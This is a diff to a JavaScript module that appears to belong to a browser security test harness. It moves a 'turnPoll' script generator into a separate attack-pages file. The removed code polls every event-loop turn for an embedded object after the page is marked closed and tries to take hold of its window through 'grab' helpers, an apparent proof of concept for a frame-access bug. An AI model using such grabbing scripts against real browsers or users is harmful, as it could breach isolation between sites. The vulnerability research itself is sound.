@@ -10,32 +10,11 @@
 import { grabbedPickerPage, objectGrabScript, probeScript } from './uploads.mjs';
 import { ev, ignored } from './attack18-pages.mjs';
 import { pollNew } from './attack20-pages.mjs';
+import { turnPoll } from './attack22-pages.mjs';
 
 const STYLE = 'style="width:10px;height:10px"';
 
 const grabbing = objectGrabScript('') + pollNew;
-
-// A poll on every turn (a MessageChannel), started before the object, that looks #o up once <html data-closed> is seen.
-const turnPoll = (what) => `<script>
-  (() => {
-    let frames = 0, seen = 0;
-    const t0 = Date.now();
-    const ch = new MessageChannel();
-    ch.port1.onmessage = () => {
-      frames++;
-      const o = document.getElementById('o');
-      if (o && document.documentElement.hasAttribute('data-closed')) {
-        if (!seen) { seen = frames; note('${what}: closed seen at turn ' + frames + ', ' + (Date.now() - t0) + ' ms, frames ' + window.length); }
-        o.anything;
-        const w = objectWindow(o);
-        if (w) { note('${what}: framed by the lookup at turn ' + frames + ' (' + (frames - seen) + ' after closed), ' + (Date.now() - t0) + ' ms'); grab(w, 'turn lookup at ${what}'); return; }
-      }
-      if (Date.now() < t0 + 20000 && !window.grabbed) ch.port2.postMessage(0);
-      else if (!window.grabbed) note('${what}: poll ended, frames ' + window.length);
-    };
-    ch.port2.postMessage(0);
-  })();
-</script>`;
 
 // Parser markup, no script of the object's own and no change to it.
 const PARSED = {
